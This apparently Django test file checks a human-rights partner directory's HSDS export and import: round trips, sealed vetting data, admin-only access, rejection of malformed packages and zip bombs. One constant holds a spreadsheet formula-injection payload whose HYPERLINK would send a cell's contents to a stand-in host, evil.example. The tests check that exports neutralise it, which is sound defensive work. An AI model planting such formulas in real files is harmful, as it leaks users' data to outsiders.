"""HSDS import and export: an export re-imports to the same directory (every field, the vetting
included); a bad package names the file and the row of each problem and imports nothing; cells a
spreadsheet would run are neutralised and still come back exactly."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, timedelta
from typing import Any

import pytest
from django.utils import timezone

from rightsdesk.accounts.models import User
from rightsdesk.accounts.policy import AdminOnly
from rightsdesk.audit.models import AuditEntry
from rightsdesk.partners.directory.hsds import PackageInvalid
from rightsdesk.partners.directory.hsds.export import datapackage
from rightsdesk.partners.directory.hsds.tables import TABLES
from rightsdesk.partners.directory.services import hsds_export, hsds_import
from rightsdesk.partners.models import Partner, Vetting
from rightsdesk.partners.services.directory import (
    FIELDS,
    notes_open,
    partner_save,
    vetting_open,
    vetting_record,
)
from tests.factories import staff_account
from tests.openpgp import public_key_for_tests

pytestmark = pytest.mark.django_db

TRICKY = '=HYPERLINK("http://evil.example/?"&A1,"x") | \'+1 \t"quoted", ✓ ناشط'


def snapshot() -> list[dict[str, Any]]:
    """Every field of every organisation, the sealed ones opened, and every vetting."""
    out = []
    for partner in Partner.objects.order_by("uid").prefetch_related("vettings"):
        row: dict[str, Any] = {name: getattr(partner, name) for name in FIELDS}
        row["uid"] = str(partner.uid)
        row["notes"] = notes_open(partner)
        row["vettings"] = sorted(
            (
                str(v.uid),
                v.vetted_on,
                v.expires_on,
                vetting_open(v).vouched_by,
                vetting_open(v).evidence,
            )
            for v in partner.vettings.all()
        )
        out.append(row)
    return out


def _directory() -> None:
    today = timezone.now().date()
    first = partner_save(
        actor=None,
        values={
            "name": "Digital Defenders Lab",
            "description": f"Line one\nline two, {TRICKY}",
            "services": ["digital_security", "counselling"],
            "languages": ["en", "ar", "my"],
            "countries": ["MM", "IR"],
            "regions": ["145", "202"],
            "worldwide": False,
            "serves": ["contributors", "lgbtq"],
            "hours": "-Mon-Fri 09-17",
            "time_zone": "Asia/Yangon",
            "response_hours": 12,
            "capacity": 4,
            "capacity_confirmed_on": date(2026, 11, 30),
            "website": "https://ddl.example.org/help?a=1&b=2",
            "email": "help@ddl.example.org",
            "phone": "+95 1 234 567",
            "signal": "ddl.01",
            "openpgp_key": public_key_for_tests()[0],
            "openpgp_fingerprint": public_key_for_tests()[1],
            "public": True,
            "do_not_refer": False,
        },
        notes=f"'starts with a quote\n@mention {TRICKY}",
    )
    vetting_record(
        actor=None,
        partner=first,
        vetted_on=today - timedelta(days=800),
        expires_on=today - timedelta(days=70),
        vouched_by="@CiviCERT",
        evidence="",
    )
    vetting_record(
        actor=None,
        partner=first,
        vetted_on=today,
        expires_on=today + timedelta(days=365),
        vouched_by="Access Now Helpline",
        evidence=TRICKY,
    )
    partner_save(
        actor=None,
        values={
            "name": "Abogados Sin Fronteras",
            "services": ["legal"],
            "languages": ["es"],
            "worldwide": True,
            "time_zone": "UTC",
            "response_hours": 48,
            "capacity": 0,
            "do_not_refer": True,
        },
    )


def _admin() -> User:
    return staff_account(role=User.Role.ADMIN).user


def test_an_export_reimports_to_the_same_directory() -> None:
    _directory()
    admin = _admin()
    before = snapshot()
    package = hsds_export(actor=admin, confidential=True)
    Partner.objects.all().delete()
    result = hsds_import(actor=admin, data=package)
    assert (result.created, result.updated, result.vettings) == (2, 0, 2)
    assert snapshot() == before
    # Into the directory it came from: nothing changes, no vetting twice.
    again = hsds_import(actor=admin, data=package)
    assert (again.created, again.updated, again.vettings) == (0, 2, 0)
    assert snapshot() == before
    # And the same directory exports the same bytes.
    assert hsds_export(actor=admin, confidential=True) == package
    assert AuditEntry.objects.filter(action="partner.export.confidential").count() == 2
    assert AuditEntry.objects.filter(action="partner.import").count() == 2


def test_the_default_export_leaves_the_sealed_parts_out() -> None:
    """Who vouched, the evidence and the team's notes stay sealed unless asked for; what the
    package then gives on import cannot receive referrals until vetted again."""
    _directory()
    admin = _admin()
    sealed = [vetting_open(v) for v in Vetting.objects.all()]
    notes = [notes_open(p) for p in Partner.objects.all()]
    package = hsds_export(actor=admin)
    text = b"".join(_files(package).values()).decode()
    secrets = [text for o in sealed for text in (o.evidence, o.vouched_by)] + notes
    assert any(secrets)
    for secret in filter(None, secrets):
        assert secret not in text
    assert _rows(_files(package)["x_rightsdesk_vettings.csv"])[1:] == []
    Partner.objects.all().delete()
    result = hsds_import(actor=admin, data=package)
    assert (result.created, result.vettings) == (2, 0)
    assert not Vetting.objects.exists()
    assert AuditEntry.objects.filter(action="partner.export").count() == 1


def _files(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _csv(rows: list[list[str]]) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def test_the_package_is_a_tabular_data_package_with_the_extension_declared() -> None:
    _directory()
    files = _files(hsds_export(actor=_admin(), confidential=True))
    descriptor = json.loads(files["datapackage.json"])
    assert descriptor == datapackage()
    assert descriptor["profile"] == "tabular-data-package"
    paths = [r["path"] for r in descriptor["resources"]]
    assert set(paths) == set(files) - {"datapackage.json"}
    assert {"organizations.csv", "services.csv", "languages.csv", "service_areas.csv"} <= set(paths)
    assert {"phones.csv", "x_rightsdesk_organizations.csv", "x_rightsdesk_vettings.csv"} <= set(
        paths
    )
    for resource in descriptor["resources"]:
        header = _rows(files[resource["path"]])[0]
        assert header == [f["name"] for f in resource["schema"]["fields"]]
    organizations = _rows(files["organizations.csv"])
    assert len(organizations) == 3
    languages = _rows(files["languages.csv"])
    assert any(row[3] == "ar" and row[2] == "Arabic" for row in languages)
    areas = {row[3] for row in _rows(files["service_areas.csv"])[1:]}
    assert {"iso3166-1:MM", "m49:145", "m49:001"} <= areas


def test_cells_a_spreadsheet_would_run_are_neutralised() -> None:
    _directory()
    files = _files(hsds_export(actor=_admin(), confidential=True))
    cells = [
        cell
        for name, data in files.items()
        if name.endswith(".csv")
        for row in _rows(data)
        for cell in row
    ]
    assert cells, "the package has cells"
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not (cell.startswith("-") and not cell[1:].replace(".", "").isdigit()), cell
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert any(cell.startswith("''starts with a quote") for cell in cells)


def _broken(edit: Any) -> tuple[bytes, list[dict[str, Any]]]:
    _directory()
    admin = _admin()
    files = _files(hsds_export(actor=admin, confidential=True))
    edit(files)
    return _zip(files), snapshot()


def _refused(package: bytes, before: list[dict[str, Any]]) -> list[str]:
    with pytest.raises(PackageInvalid) as refused:
        hsds_import(actor=_admin(), data=package)
    assert snapshot() == before
    return refused.value.errors


def test_unknown_columns_are_refused_naming_the_file() -> None:
    def edit(files: dict[str, bytes]) -> None:
        rows = _rows(files["organizations.csv"])
        rows[0].append("tax_id")
        for row in rows[1:]:
            row.append("123")
        files["organizations.csv"] = _csv(rows)

    errors = _refused(*_broken(edit))
    assert any("organizations.csv, row 1" in e and "tax_id" in e for e in errors), errors


def test_bad_rows_are_refused_naming_file_and_row_and_nothing_is_imported() -> None:
    def edit(files: dict[str, bytes]) -> None:
        services = _rows(files["services.csv"])
        services[2][2] = "astrology"
        files["services.csv"] = _csv(services)
        languages = _rows(files["languages.csv"])
        languages[1][3] = "xx"
        files["languages.csv"] = _csv(languages)
        vettings = _rows(files["x_rightsdesk_vettings.csv"])
        vettings[1][2] = "2026-13-45"
        files["x_rightsdesk_vettings.csv"] = _csv(vettings)
        areas = _rows(files["service_areas.csv"])
        areas[1][3] = "m49:999"
        files["service_areas.csv"] = _csv(areas)

    package, before = _broken(edit)
    Partner.objects.filter(name="Abogados Sin Fronteras").delete()  # one new org in the package
    before = snapshot()
    errors = _refused(package, before)
    assert any(e.startswith("services.csv, row 3: unknown service astrology") for e in errors)
    assert any(e.startswith("languages.csv, row 2: unknown language code xx") for e in errors)
    assert any(
        e.startswith("x_rightsdesk_vettings.csv, row 2: vetted_on is malformed") for e in errors
    )
    assert any(e.startswith("service_areas.csv, row 2: unknown area m49:999") for e in errors)
    assert Partner.objects.count() == 1  # the new one was not created


def test_duplicate_names_and_a_name_taken_by_another_organisation_are_refused() -> None:
    def edit(files: dict[str, bytes]) -> None:
        rows = _rows(files["organizations.csv"])
        rows[2][1] = rows[1][1].upper()
        files["organizations.csv"] = _csv(rows)

    errors = _refused(*_broken(edit))
    assert any("organizations.csv, row 3: the name is used twice (also row 2)" in e for e in errors)


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (lambda f: f.pop("datapackage.json"), "datapackage.json: missing."),
        (lambda f: f.update({"notes.txt": b"hi"}), "notes.txt: unknown file"),
        (
            lambda f: f.update({"contacts.csv": f["contacts.csv"] + _org_row(f, "contact")}),
            "contacts.csv, row 2: named contacts are not imported",
        ),
        (
            lambda f: f.update(
                {"organizations.csv": f["organizations.csv"] + b"not-a-uuid,X,,,\r\n"}
            ),
            "organizations.csv, row 4: id is not a UUID.",
        ),
        (
            lambda f: f.update(
                {"services.csv": f["services.csv"] + _org_row(f, "service", missing=True)}
            ),
            "organization_id names no organisation",
        ),
        (
            lambda f: f.update(
                {
                    "x_rightsdesk_organizations.csv": f["x_rightsdesk_organizations.csv"].replace(
                        b",false,", b",maybe,", 1
                    )
                }
            ),
            "is malformed (expected true/false)",
        ),
    ],
)
def test_broken_packages_are_refused(edit: Any, expected: str) -> None:
    errors = _refused(*_broken(edit))
    assert any(expected in e for e in errors), errors


def _org_row(files: dict[str, bytes], kind: str, *, missing: bool = False) -> bytes:
    org = (
        "00000000-0000-4000-8000-000000000001"
        if missing
        else _rows(files["organizations.csv"])[1][0]
    )
    if kind == "contact":
        return f"00000000-0000-4000-8000-0000000000c1,{org},Jane,,jane@example.org\r\n".encode()
    return f"00000000-0000-4000-8000-0000000000a1,{org},legal,active\r\n".encode()


def test_not_a_zip_and_too_large_to_unpack_are_refused() -> None:
    admin = _admin()
    with pytest.raises(PackageInvalid) as not_zip:
        hsds_import(actor=admin, data=b"PK not really")
    assert not_zip.value.errors == ["This is not a zip file."]
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("organizations.csv", b"0" * 60_000_000)
    with pytest.raises(PackageInvalid) as too_big:
        hsds_import(actor=admin, data=bomb.getvalue())
    assert "too many or too large" in too_big.value.errors[0]


def test_another_networks_package_without_our_extension_imports_unvetted_and_private() -> None:
    _directory()
    admin = _admin()
    files = _files(hsds_export(actor=admin, confidential=True))
    Partner.objects.all().delete()
    for name in ("x_rightsdesk_organizations.csv", "x_rightsdesk_vettings.csv"):
        files.pop(name)
    descriptor = json.loads(files["datapackage.json"])
    descriptor["resources"] = [r for r in descriptor["resources"] if not r["name"].startswith("x_")]
    files["datapackage.json"] = json.dumps(descriptor).encode()
    hsds_import(actor=admin, data=_zip(files))
    imported = Partner.objects.get(name="Digital Defenders Lab")
    assert (imported.public, imported.capacity, imported.response_hours) == (False, 0, 48)
    assert imported.languages == ["en", "ar", "my"]
    assert not imported.vettings.exists()


def test_only_admins_export_and_import() -> None:
    _directory()
    handler = staff_account().user
    with pytest.raises(AdminOnly):
        hsds_export(actor=handler)
    with pytest.raises(AdminOnly):
        hsds_import(actor=handler, data=b"")
    assert not AuditEntry.objects.filter(action__in=("partner.export", "partner.import")).exists()


def test_tables_are_declared_once() -> None:
    assert len({t.path for t in TABLES}) == len(TABLES)
    assert all(t.columns[0].name == "id" for t in TABLES)
